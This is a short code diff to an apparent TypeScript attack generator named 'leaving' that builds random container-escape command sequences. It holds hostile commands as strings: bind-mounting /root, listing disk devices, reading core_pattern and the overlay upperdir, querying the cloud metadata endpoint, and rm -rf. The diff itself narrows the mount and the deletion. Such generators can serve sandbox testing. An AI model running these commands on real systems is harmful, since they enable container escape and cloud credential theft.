@@ -42,7 +42,7 @@ const leaving: Attack = {
         place,
         `bash -c 'printf "#!/bin/sh\\nps aux > ${folder}/output\\n" > ${folder}/cmd; chmod +x ${folder}/cmd'`,
       ),
-      root(place, `mount --bind / ${group}; ls ${group}/root; ${root(place, `umount ${group}`)}`),
+      root(place, `mount --bind /root ${group}; ls ${group}; ${root(place, `umount ${group}`)}`),
       root(place, `ls /dev/disk /dev/sd* /dev/vd* /dev/nvme* 2>&1 | head`),
       `cat /proc/sys/kernel/core_pattern; sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/self/mounts | head -1`,
       `timeout 3 bash -c 'curl -s http://169.254.169.254/latest/meta-data/'`,
@@ -52,7 +52,7 @@ const leaving: Attack = {
       ...about,
       `mkdir -p ${folder} ${group}`,
       ...draw.some(ways, draw.int(2, 6)),
-      ...maybe(draw, 0.4, `rm -rf ${folder} 2>/dev/null`),
+      ...maybe(draw, 0.4, `rm -rf --one-file-system ${folder} 2>/dev/null`),
     ];
   },
 };
